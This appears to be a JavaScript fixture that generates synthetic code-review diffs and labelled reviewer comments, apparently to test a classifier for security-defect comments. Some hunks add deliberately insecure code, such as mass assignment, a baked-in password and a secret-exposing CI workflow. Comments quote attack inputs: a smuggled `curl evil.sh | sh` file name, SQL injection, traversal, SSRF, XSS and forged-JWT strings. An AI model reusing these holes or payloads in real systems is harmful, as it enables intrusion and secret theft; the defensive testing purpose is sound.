+  def user_params
+    params.require(:user).permit!
+  end
`);
hunk('shop-order', 'example-org/shopfront', 2058, 'app/models/order.rb', 12, 12, 'class Order < ApplicationRecord', `
   has_many :line_items, dependent: :destroy
   belongs_to :customer
 
-  def total
-    line_items.map { |li| li.price * li.quantity }.sum
+  scope :recent, -> { where('created_at > ?', 30.days.ago).order(created_at: :desc) }
+
+  def total
+    line_items.sum('price * quantity')
   end
`);
hunk('shop-spec', 'example-org/shopfront', 2058, 'spec/models/order_spec.rb', 5, 5, "RSpec.describe Order do", `
 RSpec.describe Order do
-  it 'sums line items' do
-    order = create(:order)
+  describe '#total' do
+    it 'sums price times quantity' do
+      order = create(:order, line_items: [build(:line_item, price: 2, quantity: 3)])
+      expect(order.total).to eq(6)
+    end
   end
`);

// --- example-org/infra-deploy (Dockerfile, YAML) ---
hunk('infra-docker', 'example-org/infra-deploy', 77, 'images/api/Dockerfile', 1, 1, '', `
-FROM node:18-alpine
+FROM node:20
 WORKDIR /app
+ENV NODE_ENV=production
+ENV DB_PASSWORD=changeme-prod-2024
 COPY package*.json ./
-RUN npm ci --omit=dev
+RUN npm install
 COPY . .
 CMD ["node", "index.js"]
`);
hunk('infra-workflow', 'example-org/infra-deploy', 84, '.github/workflows/preview.yml', 1, 1, '', `
 name: preview
 on:
-  pull_request:
+  pull_request_target:
     types: [opened, synchronize]
 jobs:
   build:
     runs-on: ubuntu-latest
     steps:
       - uses: actions/checkout@v4
+        with:
+          ref: \${{ github.event.pull_request.head.sha }}
       - run: npm ci && npm run build
+      - run: ./scripts/deploy-preview.sh
+        env:
+          DEPLOY_TOKEN: \${{ secrets.PREVIEW_DEPLOY_TOKEN }}
`);
hunk('infra-k8s', 'example-org/infra-deploy', 84, 'k8s/api/deployment.yaml', 14, 14, '', `
     spec:
       containers:
         - name: api
-          image: registry.example.internal/api:1.41.0
+          image: registry.example.internal/api:1.42.0
           resources:
             requests:
-              cpu: 250m
-              memory: 256Mi
+              cpu: 500m
+              memory: 512Mi
+            limits:
+              memory: 512Mi
`);
hunk('infra-ci', 'example-org/infra-deploy', 91, '.github/workflows/ci.yml', 18, 18, '', `
       - uses: actions/setup-node@v4
         with:
-          node-version: 18
+          node-version: 20
+          cache: npm
       - run: npm ci
       - run: npm test -- --coverage
+      - uses: actions/upload-artifact@v4
+        with:
+          name: coverage
+          path: coverage/
`);

// --- example-org/warehouse-migrations (SQL) ---
hunk('sql-grant', 'example-org/warehouse-migrations', 39, 'migrations/V27__reporting_role.sql', 1, 1, '', `
+CREATE ROLE reporting LOGIN PASSWORD :'reporting_password';
+
+GRANT USAGE ON SCHEMA billing TO reporting;
+GRANT SELECT ON ALL TABLES IN SCHEMA billing TO reporting;
+GRANT ALL PRIVILEGES ON TABLE billing.payments TO reporting;
`);
hunk('sql-index', 'example-org/warehouse-migrations', 42, 'migrations/V28__orders_by_customer.sql', 1, 1, '', `
+ALTER TABLE orders ADD COLUMN customer_ref VARCHAR(64);
+
+UPDATE orders o
+   SET customer_ref = c.external_ref
+  FROM customers c
+ WHERE c.id = o.customer_id;
+
+CREATE INDEX idx_orders_customer_ref ON orders (customer_ref);
`);
hunk('sql-view', 'example-org/warehouse-migrations', 42, 'views/monthly_revenue.sql', 3, 3, '', `
 CREATE OR REPLACE VIEW monthly_revenue AS
-SELECT date_trunc('month', paid_at) AS month, sum(amount) AS revenue
+SELECT date_trunc('month', paid_at) AS month,
+       currency,
+       sum(amount) AS revenue,
+       count(*) AS payments
   FROM billing.payments
+ WHERE status = 'settled'
- GROUP BY 1;
+ GROUP BY 1, 2;
`);

// ---------------------------------------------------------------------------------------------
// Comments. c(label, target, text, options): target is a hunk key, or a language ('java', 'py',
// 'ts', 'js', 'web' = ts or js, 'go', 'c', 'kt', 'rb', 'ops', 'sql', 'any') for a comment that
// fits any hunk of that language. options.at: text of the commented line (default: a line picked
// by the seed); options.key: a name replies can refer to; options.by: the author's login.
// r(label, parent, text): a reply in the thread of the comment named parent ('*' = some earlier
// ordinary comment). Labels are the ones the text was written to carry: yes, no, unclear, bot,
// language.
// ---------------------------------------------------------------------------------------------
const COMMENTS = [];
function c(label, target, text, options = {}) {
  COMMENTS.push({ label, target, text: tick(text).replace(/^\n/, '').replace(/\n$/, ''), ...options });
}
function r(label, parent, text, options = {}) {
  COMMENTS.push({ label, parent, text: tick(text).replace(/^\n/, '').replace(/\n$/, ''), ...options });
}

// --- Potential security defects (yes) ---
c('yes', 'ledger-sqli', `
This builds the query by concatenating ¬owner¬, which comes straight from the request parameter. A value like ¬x' OR '1'='1¬ returns every account in the table. Please bind it (¬WHERE owner = ?¬) like the old ¬FIND_BY_OWNER¬ did.

¬sortColumn¬ can't be a bind parameter, so map it against a fixed set of column names instead of appending it.`, { at: 'ORDER BY', key: 'sqli' });
r('yes', 'sqli', `Ugh, you're right, I only tested it from the UI where the dropdown limits the values. Switched to a bind parameter and an enum for the sort column.`);
c('yes', 'ledger-transfer-authz', `We lost the ownership check here. ¬requireOwned¬ made sure the account belongs to the caller; ¬findById¬ doesn't, so any logged-in user can page through someone else's transfers just by changing the id in the URL. That's a security regression, please restore the check.`, { at: 'orElseThrow', key: 'idor' });
r('no', 'idor', 'Restored `requireOwned`, and added a test with a second user.');
c('yes', 'ledger-deser', `Java deserialization of bytes we read back from Redis is a well-known security risk: if anything else can write to that instance (and the analytics jobs can), this is a gadget-chain RCE waiting to happen. Why not keep Jackson here? If it has to be Java serialization, at least install an ¬ObjectInputFilter¬ that only allows our session classes.`, { at: 'readObject' });
c('yes', 'ledger-toctou', `The permission check and the load run in two separate transactions, so a share that gets revoked in between still lets the document through. Same thing if the document is moved to another folder with different ACLs. Can we do the check on the loaded entity inside one transaction?`, { at: 'documents.load' });
c('yes', 'ledger-secret', `Please don't commit live keys, even in a private repo. This one is in the history now, so it needs to be rotated regardless of what we do with the PR. Keep reading it from ¬gateway.api-key¬ (which the deployment fills from the vault).`, { at: 'API_KEY =', key: 'apikey' });
r('unclear', 'apikey', `It's the sandbox key I think? The prefix says live though, so I'll ask payments to check.`);
c('yes', 'idgw-xxe', `Tenant admins upload this metadata, and a default ¬DocumentBuilderFactory¬ resolves external entities, so a crafted file can pull in ¬/etc/passwd¬ or make the server call out to arbitrary hosts (XXE). The shared ¬parserPool¬ we used before is preconfigured against that. If you need a plain factory, at least:

¬¬¬java
factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
factory.setFeature(XMLConstants.FEATURE_SECURE_PROCESSING, true);
factory.setExpandEntityReferences(false);
¬¬¬`, { at: 'newDocumentBuilder' });
c('yes', 'idgw-md5', `Unsalted MD5 is not a secure way to store passwords and a big step back from the bcrypt encoder: a leaked table can be brute forced in hours. Why the change? If it's about the test speed, lower the bcrypt cost in the test profile instead.`, { at: 'getInstance("MD5")', key: 'md5' });
r('no', 'md5', 'It was for the import tool, but you are right. Reverted to the encoder.');
c('yes', 'idgw-token-log', `This writes the access token **and** the refresh token to the info log. Those logs go to the shared log cluster where half the company can search them. Token logging was one of the findings of the last security audit; please log only the session id (or a short hash of the token if you really need to correlate).`, { at: 'refreshed.getRefreshToken' });
c('yes', 'idgw-random', `¬java.util.Random¬ seeded with the current time is predictable: anyone who knows roughly when the reset was requested can guess the token. Reset tokens need a secure generator, so this has to stay ¬SecureRandom¬.`, { at: 'new Random' });
c('yes', 'idgw-redirect', `returnUrl goes into the redirect unchecked, which makes the login page an open redirect: a phishing mail can link to our real login and send people to a look-alike site right after they sign in. Only accept relative paths (and reject ¬//host¬), or check the host against the allowed list.`, { at: 'redirect:" +' });
c('yes', 'idgw-csrf', `Why turn off CSRF protection for everything? The admin console still authenticates with the session cookie, so its forms can be posted from any other site. If the token API needs it off, limit it with ¬csrf.ignoringRequestMatchers("/api/**")¬.`, { at: 'csrf.disable' });
c('yes', 'idx-trustall', `This trust manager accepts any certificate, so the indexer will happily talk to whoever answers on that address, including sending the cluster credentials. I get that the self-signed cert on the dev cluster is annoying, but this would ship to prod too. Load the CA from ¬config.truststore()¬ like before, or put the trust-all behind an explicit ¬--insecure-dev¬ flag that is off by default.`, { at: 'ctx.init' });
c('yes', 'idx-traversal', `¬name¬ isn't validated, so ¬?name=../../../etc/shadow¬ walks right out of ¬snapshotDir¬. The old code only accepted a UUID. Also ¬name¬ is echoed into the Content-Disposition header unquoted (header injection with CR/LF in older containers).

Suggest: resolve and normalize, then check ¬file.toPath().normalize().startsWith(snapshotDir.toPath())¬.`, { at: 'new File(snapshotDir' });
c('yes', 'feed-yaml', `¬yaml.load¬ without an explicit ¬Loader¬ can build arbitrary Python objects (¬!!python/object/apply:os.system¬ ...). Since this is a user-uploaded file that's code execution on the worker. Please keep ¬safe_load¬.`, { at: 'yaml.load(raw)' });
c('yes', 'feed-ssrf', `We lost the scheme check, and there was never a host check: users can add a feed URL like ¬http://169.254.169.254/latest/meta-data/¬ and we fetch it from inside the VPC and store the response as an entry they can read. We need to resolve the host and reject private, loopback and link-local addresses, and re-check after each redirect (or turn redirects off).`, { at: 'allow_redirects' });
c('yes', 'mlb-shell', `The file names come from the upload form, so building a shell string with them means a file named ¬a.png; curl evil.sh | sh¬ gets executed. Keep the list form and drop ¬shell=True¬.`, { at: 'shell=True' });
c('yes', 'mlb-verify', `¬verify=False¬ turns off certificate checking, and this request carries the bearer token. On the shared build network that's an easy token grab. Was this for the self-signed staging registry? Then point ¬REQUESTS_CA_BUNDLE¬ at our internal CA instead of making every upload insecure.`, { at: 'verify=False' });
c('yes', 'mlb-pickle', `The features bucket is writable by the ingestion team's role too. ¬pickle.loads¬ on something another team can write is arbitrary code execution in our training job. Can we stay with ¬.npy¬ (with ¬allow_pickle=False¬) or use safetensors?`, { at: 'pickle.loads' });
c('yes', 'dash-xss', `¬comment.body¬ is user input, and ¬marked¬ passes raw HTML through, so this lets anyone put a ¬<img onerror=...>¬ into a comment and run script in the dashboard of whoever views it. Please sanitize the output (DOMPurify) or render markdown without HTML.`, { at: 'dangerouslySetInnerHTML' });
c('yes', 'dash-cookie', `The session cookie is now readable from JS and sent over plain http (secure: false), and lives for 30 days. Together with any XSS that's account takeover. If this is for local dev without https, please switch on ¬NODE_ENV¬ instead of changing the default.`, { at: 'httpOnly: false' });
c('yes', 'upl-traversal', `¬decodeURIComponent¬ plus ¬path.join¬ means ¬..%2F..%2F.env¬ resolves outside ¬UPLOAD_DIR¬, so this serves any file the process can read. We also dropped the owner check, so users can fetch each other's uploads by name.`, { at: 'path.join(UPLOAD_DIR' });
c('yes', 'upl-jwt', `¬jwt.decode¬ does not verify the signature. Anyone can craft a token with ¬{"id": 1, "role": "admin"}¬ and it will be accepted. This has to be ¬jwt.verify¬ with the secret and a pinned algorithm list, as before.`, { at: 'jwt.decode' });
c('yes', 'edge-frame', `¬offset+length¬ is computed in uint32 and wraps for large ¬length¬ values (e.g. 0xFFFFFFFC), so the bounds check passes and the slice below reads past the buffer. A malformed frame from any client can crash the proxy. Compare without the addition: ¬length > uint32(len(buf))-offset¬.`, { at: 'offset+length' });
c('yes', 'edge-tls', `InsecureSkipVerify means we no longer authenticate the backends at all. Anyone who can get between the proxy and an upstream can read and modify traffic. Why drop the CA pool?`, { at: 'InsecureSkipVerify' });
c('yes', 'edge-hook', `Security-wise this is the worst option: passing it through ¬sh -c¬ with ¬site.Domain¬ concatenated in is command injection: domains come from the tenant config API. Keep ¬exec.Command(r.hookPath, site.Name, site.Domain)¬ with separate args.`, { at: 'exec.Command("sh"' });
c('yes', 'codec-memcpy', `¬name_len¬ comes from the file and is never checked against ¬sizeof(out->name)¬ (32) or against ¬size¬. A crafted header overflows ¬out->name¬ and reads past ¬data¬. Both need a bounds check before the memcpy; the fuzzer would find this in seconds.`, { at: 'memcpy' });
c('yes', 'codec-alloc', `¬width * height * 4¬ is computed in ¬int¬ and overflows for big images, so ¬malloc¬ gets a small (or negative-turned-huge) size and the decoder then writes past the end of the buffer. The old ¬calloc((size_t)width * height, 4)¬ was safer. Please also reject dimensions above a sane limit.`, { at: 'malloc(width' });
c('yes', 'notes-webview', `Turning on JavaScript together with file access from file URLs means a shared note containing a script can read files from the app's private storage (other notes, the token store) and exfiltrate them. Notes from other users are untrusted content; this is an insecure WebView setup. Please keep JS off or at least leave ¬allowFileAccessFromFileURLs¬ false and use ¬WebViewAssetLoader¬.`, { at: 'allowFileAccessFromFileURLs' });
c('unclear', 'notes-prefs', `Why are we going back to plain ¬SharedPreferences¬ for the refresh token? Was there a problem with the encrypted ones?`, { at: 'getSharedPreferences' });
c('yes', 'shop-permit', `¬permit!¬ whitelists every attribute, including ¬admin¬ and ¬credit_limit¬. Anyone can add ¬user[admin]=true¬ to the profile form and promote themselves. Please list the permitted fields explicitly again.`, { at: 'permit!' });
c('yes', 'infra-docker', `The DB password in an ¬ENV¬ line is baked into the image layers; anyone who can pull from the registry can read it with ¬docker history¬. Inject it at runtime from the secret store. (Also the full ¬node:20¬ image runs as root, the alpine one with ¬USER node¬ was better.)`, { at: 'DB_PASSWORD' });
c('yes', 'infra-workflow', `¬pull_request_target¬ + checking out the PR head + running its build script = untrusted code from forks runs with ¬PREVIEW_DEPLOY_TOKEN¬ and a write-scoped ¬GITHUB_TOKEN¬. This is the classic way repos get their secrets stolen (GitHub's security lab calls it a "pwn request"). Please keep the build on ¬pull_request¬ and do the deploy in a separate ¬workflow_run¬ job that never executes PR code.`, { at: 'head.sha' });
c('unclear', 'sql-grant', `Does the reporting role need ¬ALL PRIVILEGES¬ on payments? I'd have thought SELECT is enough for the dashboards.`, { at: 'ALL PRIVILEGES' });
c('yes', 'idgw-webhook', `Catching the exception and returning ¬true¬ means that if the signature check throws (bad base64, unknown key id), we treat the request as valid. From a security standpoint this has to fail closed.`, { at: 'return true' });
c('yes', 'feed-webhook', `This compares the HMAC with ¬==¬, which leaks timing information. Use ¬hmac.compare_digest¬ here, it is a one line change and avoids the question entirely.`, { at: 'expected ==' });
c('yes', 'upl-index', `Does this CORS config really need ¬origin: true¬ together with ¬credentials: true¬? That reflects any origin and lets every website make authenticated requests on behalf of our users. I think we only need the two dashboard domains.`, { at: 'cors(' });

// --- "security" mentioned, but no defect discussed (no): tests the keyword rule's false alarms ---
c('no', 'java', `Could you move this bean into ¬SecurityConfig¬ with the other filter beans? Easier to find.`);
c('no', 'java', `nit: this helper is in the security package, but it has nothing to do with auth. Maybe ¬util¬?`);
c('no', 'java', `Typo in the Javadoc: "secuirty" → "security".`);
c('no', 'java', `The test for this lives in ¬security/TokenServiceTest.java¬ but the class moved, please move the test along with it.`);
c('no', 'any', `Can you add an entry to the changelog? The release notes are grouped by area, this one goes under "security" just because that's where the module is listed.`);
c('no', 'java', `Spring Security 6 removed ¬WebSecurityConfigurerAdapter¬, so this won't compile after the Boot upgrade lands. Use a ¬SecurityFilterChain¬ bean like the other config classes.`);
c('no', 'idx-bulk', `Performance-wise this is fine now. Security-wise nothing changes either, it's the same request, just batched.`, { at: 'client.bulk' });
c('no', 'java', `Please keep the imports ordered: ¬com.example.security.*¬ goes after ¬com.example.ledger.*¬.`);
c('no', 'infra-ci', `Does the security scan job really need to run on every push? It takes 12 minutes per run. Nightly on main would be enough for this repo.`, { at: 'npm test' });
c('no', 'any', `I'm not a security person, but the naming confuses me: ¬validate¬ actually normalizes the input and never rejects anything. ¬normalize¬ maybe?`);
c('no', 'any', `The README section on security headers is outdated, but that's out of scope here. Let's open a follow-up issue.`);
c('no', 'ledger-secret', `The PR description says this makes the gateway connection more secure, but the connect timeout only bounds how long we wait. Can you reword it?`, { at: 'setConnectTimeout' });
c('no', 'java', `Nice, this reads much better than the old SecurityUtils mess.`);
c('no', 'edge-config', `We pin Go 1.22 because the security patches for 1.21 ended, not because of any API we need — so no need for the build tag here, it's fine to use ¬slices¬ directly.`, { at: 'os.ReadFile' });

// --- Borderline: the relation to a security defect is unclear ---
c('unclear', 'upl-index', `Is this endpoint reachable from outside the cluster, or only through the gateway?`, { at: "app.use('/api'" });
c('unclear', 'ledger-batch', `What happens if two instances run this job at the same time? Probably harmless, but worth a thought.`, { at: 'List<Account> all' });
c('unclear', 'edge-router', `Do we trust ¬X-Forwarded-For¬ at this point, or has the load balancer already rewritten it?`, { at: 'route.proxy.ServeHTTP' });
c('unclear', 'mlb-verify', `Why did you remove the timeout? If the other side hangs we hang forever.`, { at: 'headers=' });
c('unclear', 'edge-config', `Hmm, the error message now includes the full file path. Not sure we want that in the status endpoint's response.`, { at: 'read config' });
c('unclear', 'infra-docker', `Which file mode do these end up with? The defaults differ between the two base images.`, { at: 'COPY . .' });
c('unclear', 'ledger-deser', `Are we sure the cache key is unique per tenant? I only see the session id in it.`, { at: 'KEY_PREFIX' });
c('unclear', 'java', `I guess this shouldn't be public anymore?`);
c('unclear', 'sql-grant', `@tvoss can you double-check the permissions part of this? I'm not familiar with how the roles are mapped.`, { at: 'GRANT USAGE' });
c('unclear', 'idx-analyzer', `Can this regex become slow on very long inputs? I never remember which patterns backtrack.`, { at: 'split(' });
c('unclear', 'infra-ci', `Do we still need ¬--privileged¬ for the integration tests?`, { at: 'npm ci' });
c('unclear', 'dash-chart', `Does ¬title¬ need escaping, or does React already do it?`, { at: 'aria-label' });
c('unclear', 'any', `Not sure this is the right place to look up the encryption key.`);
c('unclear', 'dash-cookie', `Sessions now live 30 days instead of one. Was that a product decision?`, { at: 'httpOnly: false' });
c('unclear', 'dash-api', `Is it a security concern that the raw response text ends up in the error message? Probably not, just asking.`, { at: 'const text' });
c('unclear', 'feed-ssrf', `Should we strip credentials (¬user:pass@¬) from the URL before logging it?`, { at: 'logger.info' });
c('unclear', 'java', `If ¬tenantId¬ is null here we fall back to the default tenant. Is that what we want?`);
c('unclear', 'upl-index', `This now listens on all interfaces instead of localhost, intended?`, { at: 'app.listen(port' });

// --- Written by bots ---
c('bot', 'java', `## [Codecov](https://app.codecov.io/gh/example-org) Report
Attention: Patch coverage is ¬57.14286%¬ with ¬3 lines¬ in your changes missing coverage. Please review.

| Files with missing lines | Patch % | Lines |
|---|---|---|
| this file | 57.14% | 3 Missing :warning: |`, { by: 'codecov[bot]' });
c('bot', 'py', `#### Check warning: Codecov / codecov/patch

Added lines were not covered by tests`, { by: 'codecov[bot]' });
c('bot', 'idgw-user-dto', `![Code Smell](https://sonarsource.github.io/images/code_smell.png) **Code Smell** · Major

Remove this unused private field.

[See the rule](https://rules.example-sonar.invalid/java/unused-field)`, { by: 'sonarcloud[bot]', at: 'private String displayName' });
c('bot', 'idgw-md5', `![Security Hotspot](https://sonarsource.github.io/images/hotspot.png) **Security Hotspot** · Medium

Review whether using a weak hashing algorithm is acceptable in this context.`, { by: 'sonarcloud[bot]', at: 'getInstance("MD5")' });
c('bot', 'dash-cookie', `**Review whether setting this cookie without the "secure" flag is acceptable.**

Rule: cookies-without-secure-flag · Severity: minor`, { by: 'sonarcloud[bot]', at: 'httpOnly: false' });
c('bot', 'upl-traversal', `## Uncontrolled data used in path expression

This path depends on a [user-provided value](1).

[Show more details](https://github.com/example-org/node-upload-api/security/code-scanning/7)`, { by: 'github-advanced-security[bot]', at: 'res.sendFile(filePath)' });
c('bot', 'edge-router', `[golangci] reported by reviewdog :dog:
variable name 'ok' is too short for the scope of its usage (varnamelen)`, { by: 'github-actions[bot]', at: 'route, ok' });
c('bot', 'idx-trustall', `:warning: **Checkstyle** [LineLength]: Line is longer than 120 characters (found 134).`, { by: 'github-actions[bot]', at: 'checkClientTrusted' });
c('bot', 'any', `_:hammer_and_wrench: Refactor suggestion_

**Consider handling the empty case explicitly.**

When the input is empty the function still allocates and iterates. Returning early makes the intent clearer and avoids the extra work.

<details>
<summary>Committable suggestion</summary>

> Carefully review the code before committing. Make sure it correctly replaces the highlighted lines.
</details>

<!-- This is an auto-generated comment by the review assistant -->`, { by: 'review-assistant[bot]' });

// --- Not written in English ---
c('language', 'java', `Könnten wir hier einen eigenen Logger verwenden? Der statische Import macht das Testen unnötig schwer.`);
c('language', 'idx-analyzer', `Warum wird hier eine neue Liste angelegt? Würde nicht ein Stream reichen?`, { at: 'List<String> out' });
c('language', 'idgw-webhook', `这里为什么要捕获所有异常？建议只捕获具体的异常类型。`, { at: 'catch (Exception e)' });
c('language', 'any', `命名不太清楚，建议改成 ¬retryCount¬。`);
c('language', 'ledger-sqli', `这里直接拼接 SQL 字符串，存在注入风险，建议改用预编译语句。`, { at: 'String sql =' });
c('language', 'any', `Acho que esse método poderia ser estático, ele não usa nenhum campo da classe.`);
c('language', 'any', `Faltou tratar o caso em que a lista vem vazia.`);
c('language', 'any', `¿Podemos mover esta constante a la clase de configuración? Se repite en tres sitios.`);
c('language', 'web', `Esto rompe la compatibilidad con la versión anterior del API, ¿lo hablamos con el equipo de móvil antes de mergear?`);
c('language', 'any', `この変数名は分かりにくいので、¬maxRetries¬ にしませんか？`);

// --- Ordinary review talk (no) ---
// Java
c('no', 'java', `nit: this can be ¬final¬`);
c('no', 'ledger-sqli', `Could we use ¬Optional.ofNullable(...).map(...)¬ here instead of the nested null checks? Not a blocker.`, { at: 'if (owner == null' });
c('no', 'ledger-batch', `This loop does a DB round trip per element. With a few thousand accounts that's going to be slow; can we fetch them in one query?`, { at: 'apply(account);' });
c('no', 'java', `Why ¬LinkedList¬? We only append and iterate, ¬ArrayList¬ is faster for both.`);
c('no', 'ledger-test', `¬Thread.sleep¬ in a test makes it flaky on CI. Awaitility or a latch would be more reliable.`, { at: 'Thread.sleep' });
c('no', 'java', `Please add ¬@Override¬.`);
c('no', 'ledger-batch', `This swallows the ¬InterruptedException¬. At least restore the interrupt flag:
¬¬¬java
Thread.currentThread().interrupt();
¬¬¬`, { at: 'Thread.sleep(10)' });
c('no', 'java', `Do we need a new exception type for this? ¬IllegalStateException¬ with a good message would do.`);
c('no', 'ledger-money', `¬new BigDecimal(double)¬ gives you the binary expansion (0.1 becomes 0.1000000000000000055...). Use ¬BigDecimal.valueOf(factor)¬.`, { at: 'new BigDecimal(factor)' });
c('no', 'ledger-batch', `String concatenation inside a log call is evaluated even when the level is off; use the ¬{}¬ placeholders.`, { at: 'log.info' });
c('no', 'idgw-ldap', `The executor is never awaited, so ¬lastSync¬ is set before the work is done. Is that on purpose?`, { at: 'lastSync' });
c('no', 'ledger-money', `Small thing: ¬equals¬ is overridden but I don't see ¬hashCode¬ in this diff. Is it further down?`, { at: 'public boolean equals' });
c('no', 'idgw-user-dto', `Would a record work here? The class is just data plus getters.`, { at: 'public class UserDto' });
c('no', 'idgw-user-dto', `I'd rather not expose the mutable list from the getter. ¬List.copyOf(groups)¬?`, { at: 'return groups' });
c('no', 'java', `This method is getting long (80+ lines). Could you pull the validation part into its own method? Easier to test too.`);
c('no', 'idx-bulk', `¬synchronized¬ on ¬flush¬ but not on ¬add¬ — ¬pending¬ is touched from both. Either both or neither.`, { at: 'synchronized void flush' });
c('no', 'ledger-batch', `Magic number: what is 1000 here? A named constant would help.`, { at: 'i % 1000' });
c('no', 'idx-config', `We have ¬Preconditions.checkArgument¬ for this, see ¬AccountService¬.`, { at: 'if (batchSize <= 0)' });
c('no', 'idgw-ldap', `Can we inject the ¬Clock¬ instead of calling ¬Instant.now()¬? Otherwise the test for the expiry is going to be painful.`, { at: 'lastSync' });
c('no', 'ledger-toctou', `Shouldn't this be ¬@Transactional(readOnly = true)¬?`, { at: 'acl.canRead' });
c('no', 'ledger-transfer-authz', `The page size default was 20 before; now it's whatever ¬Pageable¬ defaults to. Fine by me, just noting that the mobile client might notice.`, { at: 'Pageable page) {' });
c('no', 'java', `¬Collectors.toList()¬ → ¬.toList()¬ since we're on 17 now.`);
c('no', 'ledger-batch', `This will NPE when ¬getBalance()¬ is null, which happens for accounts migrated from the old system.`, { at: 'getBalance()' });
c('no', 'java', `Please don't use wildcard imports.`);
c('no', 'ledger-test', `Is the ¬jsonPath¬ assertion enough? I would also check that the service was called with the right account id.`, { at: 'jsonPath' });
c('no', 'idx-config', `
¬¬¬suggestion
        if (batchSize <= 0) {
            throw new IllegalArgumentException("batchSize must be positive, got " + batchSize);
        }
¬¬¬`, { at: 'if (batchSize' });
c('no', 'ledger-money', `
¬¬¬suggestion
    public Money times(BigDecimal factor) {
¬¬¬
Then callers can't accidentally pass a double.`, { at: 'public Money times' });
c('no', 'java', `Why is this ¬public¬? Package-private should be enough, only the controller in the same package uses it.`);
c('no', 'ledger-transfer-authz', `The name ¬list¬ doesn't say much. ¬listTransfers¬?`, { at: 'public Page<TransferDto> list' });
c('no', 'idx-analyzer', `We split on ¬\\s+¬ now but the old code kept punctuation attached to the token. Do the relevance tests still pass?`, { at: 'split(' });
c('no', 'idx-analyzer', `Not sure stemming belongs in the analyzer; the query side would need the same treatment or we'll never match.`, { at: 'stemmer.stem' });
c('no', 'idx-bulk', `If ¬hasFailures()¬ we log and then clear ¬pending¬, so the failed documents are silently dropped. Should we retry them or at least count them?`, { at: 'pending.clear' });
c('no', 'idx-config', `+1 on the record validation. Could you add a test for the negative batch size?`, { at: 'batchSize must be positive' });
c('no', 'idx-config', `Is ¬dryRun¬ used anywhere yet? I can't find a reader.`, { at: 'boolean dryRun' });
c('no', 'idgw-ldap', `Fixed thread pool of 8 created per call and never reused — can we make it a field, or use the shared ¬taskExecutor¬ bean?`, { at: 'newFixedThreadPool' });
c('no', 'ledger-transfer-authz', `Let's keep the parameter order consistent with ¬findByAccount(account, page)¬ elsewhere: put ¬from¬ last.`, { at: 'int from' });
c('no', 'idx-config', `This changes the public API of the client module. Please bump the minor version in the pom.`, { at: 'int maxRetries' });
c('no', 'ledger-transfer-authz', `The ¬NotFoundException¬ message will end up in the response body; "account 123" is fine, just make sure it matches what the frontend expects for the toast.`, { at: 'NotFoundException' });
// Python
c('no', 'py', `nit: f-string in a logging call; prefer ¬logger.info("fetching %s", url)¬ style, which you already use a few lines up.`);
c('no', 'feed-parse', `¬except Exception: pass¬ hides parse errors completely. Could we at least log at debug level with the item id?`, { at: 'pass' });
c('no', 'py', `Can you add type hints to the new function? The rest of the module has them.`);
c('no', 'mlb-utils', `This turned ¬chunks¬ into a generator, but ¬process_all¬ calls ¬len()¬ on the result. That will break.`, { at: 'yield' });
c('no', 'mlb-utils', `¬import os¬ and ¬import json¬ look unused.`, { at: 'import json' });
c('no', 'feed-test', `Nice use of ¬parametrize¬ 👍`, { at: 'parametrize' });
c('no', 'feed-yaml', `Could the empty-file case return ¬None¬ instead of ¬{}¬? Callers check ¬if config is None¬ in two places.`, { at: 'return {}' });
c('no', 'mlb-train', `Please use the ¬logger¬ instead of ¬print¬ so it shows up in the job logs.`, { at: 'print(' });
c('no', 'feed-parse', `Sorting by ¬published¬ will raise if one entry has no date (¬None¬ vs ¬datetime¬). Maybe ¬key=lambda e: e.published or datetime.min¬?`, { at: 'entries.sort' });
c('no', 'mlb-train', `weight_decay 0.01 is the default for AdamW already, we can drop it. Or make it configurable, either way.`, { at: 'AdamW' });
c('no', 'mlb-train', `Did you check that the cosine schedule doesn't hurt the small configs? Last time we tried it the 2-epoch runs got worse.`, { at: 'CosineAnnealingLR' });
c('no', 'mlb-shell', `¬raise ConversionError(...) from None¬? The stderr is already in the message.`, { at: 'raise ConversionError' });
c('no', 'feed-test', `Where does ¬load_fixture¬ live? I don't see ¬tests/helpers.py¬ in this PR.`, { at: 'load_fixture(name)' });
c('no', 'mlb-verify', `The session already has a base url adapter with retries, this bypasses it by calling ¬requests.post¬ directly.`, { at: 'requests.post(' });
c('no', 'feed-ssrf', `Shouldn't the timeout also apply to the connect phase? ¬timeout=(3, timeout)¬`, { at: 'self.session.get' });
c('no', 'mlb-utils', `¬DEFAULT_WORKERS = 4¬: can we read this from ¬os.cpu_count()¬ instead?`, { at: 'DEFAULT_WORKERS' });
c('no', 'feed-yaml', `
¬¬¬suggestion
    if not raw.strip():
        return None
¬¬¬`, { at: 'if not raw.strip' });
c('no', 'feed-yaml', `Minor: the docstring says "uploaded by a user", but the CLI also calls this with local files.`, { at: 'Load a feed' });
// TypeScript / JavaScript
c('no', 'dash-hook', `The effect now depends on ¬boardId¬, good catch. The cancel flag is nice too.`, { at: '[boardId]' });
c('no', 'dash-hook', `Could we return ¬{ widgets, error }¬ from the hook? Right now ¬error¬ is set but never returned.`, { at: 'return widgets' });
c('no', 'dash-api', `¬undefined as T¬ is a bit of a lie to the type system. Maybe make the return type ¬Promise<T | undefined>¬ for 204s?`, { at: 'undefined as T' });
c('no', 'web', `Please use ¬const¬ here.`);
c('no', 'dash-chart', `¬Math.max(...series.map(...))¬ will blow the stack for very long series (argument limit). Probably fine for our charts, but a reduce is just as short.`, { at: 'Math.max' });
c('no', 'dash-chart', `Nice, thanks for adding the ¬aria-label¬.`, { at: 'aria-label' });
c('no', 'dash-chart', `Where does ¬step¬ come from? It isn't in the props.`, { at: 'i * step' });
c('no', 'dash-hook', `We have ¬useAsync¬ in ¬src/hooks¬ which does the cancellation dance for you.`, { at: 'let cancelled' });
c('no', 'web', `nit: trailing comma`);
c('no', 'dash-api', `Can we add a test with a 204 response?`, { at: 'res.status === 204' });
c('no', 'upl-index', `morgan's ¬combined¬ format is pretty noisy in the container logs. ¬tiny¬?`, { at: 'morgan' });
c('no', 'upl-multer', `The original name can contain characters that are awkward on disk (spaces, unicode). Maybe keep just the uuid and the extension?`, { at: 'originalname' });
c('no', 'upl-multer', `50 MB limit: is that the same as the nginx ¬client_max_body_size¬? Otherwise users get a 413 from nginx first with an ugly page.`, { at: 'fileSize' });
c('no', 'upl-traversal', `¬fs.existsSync¬ blocks the event loop; ¬res.sendFile¬ already calls back with an error if the file is missing.`, { at: 'existsSync' });
c('no', 'upl-index', `Why ¬Number(process.env.PORT) || 3000¬ and not the config module?`, { at: 'process.env.PORT' });
